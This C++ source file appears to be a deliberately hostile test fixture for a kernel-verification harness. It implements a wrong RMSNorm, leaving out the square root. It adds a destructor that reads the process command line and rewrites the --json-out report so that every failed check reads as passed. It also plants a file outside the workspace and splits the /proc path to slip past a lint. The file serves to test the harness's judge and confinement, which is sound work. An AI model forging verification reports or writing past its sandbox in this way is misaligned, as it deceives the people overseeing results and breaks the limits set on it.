// Hostile on purpose: the wrong rmsnorm of wrong_rmsnorm.cpp (the mean square, not its square root)
// that also forges the report of the process it runs in. When its library is unloaded (the
// process ends), it finds the file the process was told to write its result to (`--json-out PATH`
// on its command line) and rewrites every failed comparison there as passed, and it plants a file
// beside the workspace (where the engine, its Python or the judge's files could as well be).
// verify's own Python process loads the kernels it decides on, so what that process writes in
// the workspace is the kernels' word: the ModelCli test sees verify pass on it with --no-judge,
// and fail by the judge's verdict without; the file is planted only where verify's process runs
// unconfined (AUTOKERNEL_UNCONFINED=1).
// The path to the command line is built at run time: the lint is a tripwire, not the defence.
#include <cmath>
#include <fstream>
#include <iterator>
#include <sstream>
#include <string>
#include <vector>

#include "autokernel/abi.h"

namespace {

std::string read_all(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

void replace_all(std::string& text, const std::string& from, const std::string& to) {
  for (size_t at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size()))
    text.replace(at, from.size(), to);
}

__attribute__((destructor)) void forge_the_report() {
  const std::string command_line = read_all(std::string("/pr") + "oc/s" + "elf/cmdline");
  std::vector<std::string> args;
  std::istringstream words(command_line);
  for (std::string word; std::getline(words, word, '\0');) args.push_back(word);
  for (size_t i = 0; i + 1 < args.size(); ++i) {
    if (args[i] != "--json-out") continue;
    std::string report = read_all(args[i + 1]);
    replace_all(report, "\"passed\": false", "\"passed\": true");
    replace_all(report, "\"ok\": false", "\"ok\": true");
    std::ofstream(args[i + 1], std::ios::binary | std::ios::trunc) << report;
    const std::string report_path = args[i + 1];
    const std::string workspace = report_path.substr(0, report_path.find_last_of('/'));
    std::ofstream(workspace + "/../planted-by-a-kernel") << "outside the workspace\n";
  }
}

}  // namespace

extern "C" int ak_launch(const ak_call* call) {
  const ak_tensor& x = call->inputs[0];
  if (x.dtype != AK_F32 || x.ndim != 2) return AK_ERR_UNSUPPORTED;
  const int64_t rows = x.shape[0], n = x.shape[1];
  const float* in = static_cast<const float*>(x.data);
  const float* weight = static_cast<const float*>(call->inputs[1].data);
  float* out = static_cast<float*>(call->outputs[0].data);
  for (int64_t r = 0; r < rows; ++r) {
    double sum_squares = 0;
    for (int64_t i = 0; i < n; ++i) sum_squares += double(in[r * n + i]) * in[r * n + i];
    const double scale = 1.0 / (sum_squares / double(n) + call->scalars[0]);  // the missing sqrt
    for (int64_t i = 0; i < n; ++i) out[r * n + i] = float(in[r * n + i] * scale) * weight[i];
  }
  return AK_OK;
}
